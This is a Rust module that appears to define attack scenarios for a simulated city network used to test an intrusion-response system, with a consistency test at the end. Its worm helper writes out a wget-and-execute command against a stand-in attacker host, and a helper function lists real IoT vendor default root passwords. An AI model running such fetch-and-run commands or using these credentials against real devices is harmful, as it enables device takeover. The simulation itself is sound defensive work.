//! All scenarios.
//!
//! Owns: what happens in each and what must come of it. Does not own: how that is judged.

use std::net::Ipv4Addr;

use crate::attack::{Part, Step};
use crate::error::{RangeError, Result};
use crate::scenario::{Detected, Done, Scenario, Twist, Undone};
use crate::topology::{SIGNAL_PLAN, SYSTEM_SERVICES, Topology};

mod devices;
mod floods;
mod outward;
mod postmortems;
mod response;

/// All, in the order in which they are run.
pub static SCENARIOS: &[&Scenario] = &[
    &devices::CAMERA_WORM,
    &devices::CAMERA_SCAN,
    &devices::PASSWORD_GUESSING,
    &devices::PUMP_WRITE,
    &devices::SIGNAL_WRITE,
    &devices::SCADA_MISUSE,
    &devices::POLICY_HOLDS,
    &devices::ARP_SPOOFING,
    &devices::ROGUE_DEVICE,
    &outward::C2_BEACON,
    &outward::DNS_TUNNEL,
    &outward::SLOW_EXFILTRATION,
    &floods::FLOOD_FROM_INSIDE,
    &floods::FLOOD_FROM_OUTSIDE,
    &floods::SYN_FLOOD,
    &floods::SYN_FLOOD_LIMITED,
    &floods::AMPLIFICATION,
    &floods::AMPLIFICATION_LIMITED,
    &response::SPOOFED_HOSPITAL,
    &response::ALERT_STORM,
    &response::MALICIOUS_PLAYBOOK,
    &response::DEAD_DAEMON,
    &response::UNFORESEEN_HARM,
    &postmortems::R2_TAKE_DOWN,
    &postmortems::C_291,
    &postmortems::BOT_FILE,
    &postmortems::STALE_BLOCKS,
    &postmortems::GATEWAY_BAN,
];

/// The scenario of a name.
///
/// # Errors
/// Names the nearest where there is none.
pub fn find(name: &str) -> Result<&'static Scenario> {
    let found = SCENARIOS.iter().find(|s| s.name == name);
    found.copied().ok_or_else(|| RangeError::Unknown {
        name: name.to_owned(),
        hint: hint(name),
    })
}

fn hint(name: &str) -> String {
    let alike =
        |s: &&&Scenario| s.name.contains(name) || name.contains(s.name) || s.name.get(..4) == name.get(..4);
    let found = SCENARIOS.iter().find(alike);
    found.map_or_else(String::new, |s| format!("; did you mean {:?}?", s.name))
}

/// What all scenarios have in common: each says only what is its own.
const BASE: Scenario = Scenario {
    name: "",
    title: "",
    lesson: "",
    attack: |_| Vec::new(),
    detected: &[],
    done: &[],
    touched: &[],
    harmed: &[],
    undone: Undone::Command,
    enforced: false,
    twist: Twist::None,
    told: &[],
    honest: &[],
    watched: 5_000,
};

/// Rungs that take a device off the network but for what keeps it alive.
const CUT: &[&str] = &["quarantine", "isolate"];
/// Rungs that deny some of what a device says.
const DENY: &[&str] = &["deny-command", "deny-conduit", "quarantine", "isolate"];
/// Any rung that changes anything.
const ANY: &[&str] = &[
    "deny-command",
    "limit-rate",
    "deny-conduit",
    "quarantine",
    "isolate",
];

fn ip(city: &Topology, name: &str) -> Ipv4Addr {
    city.host(name).map_or(Ipv4Addr::LOCALHOST, |h| h.address)
}

fn ips(city: &Topology, names: &[&str]) -> Vec<Ipv4Addr> {
    names.iter().map(|name| ip(city, name)).collect()
}

/// The passwords of the vendors, as worms carry them; "vizxv" is camera-2's.
fn passwords() -> Vec<(String, String)> {
    ["xc3511", "admin", "vizxv"]
        .map(|word| ("root".to_owned(), word.to_owned()))
        .to_vec()
}

/// What a worm types: it fetches itself, and is found by what it types.
fn worm_lines(city: &Topology) -> Vec<String> {
    let lair = ip(city, "lair");
    vec![
        "/bin/busybox ECCHI".to_owned(),
        format!("cd /tmp; wget http://{lair}/bins.sh -O x; chmod 777 x; sh x"),
    ]
}

/// The kiosk takes over camera-2: how many scenarios begin.
fn take_over_camera(city: &Topology) -> Part {
    take_over(city, "kiosk", "camera-2")
}

/// The camera that is taken over switches a pump, from so many milliseconds on.
fn switch_from_camera(city: &Topology, pump: &str, from: u64) -> Vec<Part> {
    let write = Step::Modbus {
        to: ip(city, pump),
        register: None,
    };
    vec![
        take_over_camera(city),
        Part::repeated("camera-2", from, 200, 100, write),
    ]
}

/// Somebody takes over somebody else by telnet, with a vendor's password.
fn take_over(city: &Topology, at: &str, whom: &str) -> Part {
    let mut passwords = passwords();
    passwords.push(("admin".to_owned(), "1234".to_owned()));
    Part::once(
        at,
        Step::Telnet {
            targets: ips(city, &[whom]),
            passwords,
            lines: worm_lines(city),
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn every_scenario_says_what_must_come_of_it() {
        let city = Topology::eastmere(1);
        let names: BTreeSet<_> = SCENARIOS.iter().map(|s| s.name).collect();
        assert_eq!(names.len(), SCENARIOS.len());
        assert!(SCENARIOS.len() >= 21);
        for scenario in SCENARIOS {
            let name = scenario.name;
            assert!(
                !scenario.done.is_empty(),
                "{name}: nothing could fail with the response off"
            );
            assert!(!scenario.detected.is_empty(), "{name}");
            assert!(!scenario.title.is_empty() && scenario.lesson.len() > 60, "{name}");
            assert!((2_000..=12_000).contains(&scenario.watched), "{name}");
            let parts = (scenario.attack)(&city);
            assert!(!parts.is_empty(), "{name}");
            for part in &parts {
                assert!(city.host(&part.at).is_some(), "{name}: {}", part.at);
            }
            let steps: BTreeSet<_> = parts.iter().map(|p| p.step.name()).collect();
            for done in scenario.done {
                match done {
                    Done::Action(_, host)
                    | Done::Approved(_, host)
                    | Done::Waits(_, host)
                    | Done::Planned(_, host)
                    | Done::Refused(host)
                    | Done::Keeps(host, _) => {
                        assert!(city.host(host).is_some() || *host == "wall", "{name}: {host}");
                    }
                    Done::Stops(step) | Done::Never(step) | Done::Opens(step, _) => {
                        assert!(steps.contains(step), "{name}: no step {step}");
                    }
                    Done::AtMost(_) => {}
                }
            }
            for host in scenario.touched.iter().chain(scenario.harmed) {
                assert!(city.host(host).is_some(), "{name}: {host}");
            }
            let safety = |host: &&&str| {
                let host = city.host(host).unwrap();
                city.zone_of(host).is_some_and(|z| z.criticality == "safety")
            };
            assert!(
                !scenario.touched.iter().any(|h| safety(&h)),
                "{name}: safety may never be touched"
            );
            if let Undone::Harm(whose, with) = scenario.undone {
                assert!(city.host(whose).is_some() && city.host(with).is_some(), "{name}");
            }
            assert!(find(name).is_ok());
        }
        let error = find("camera").err().unwrap().to_string();
        assert!(error.contains("did you mean"), "{error}");
    }
}
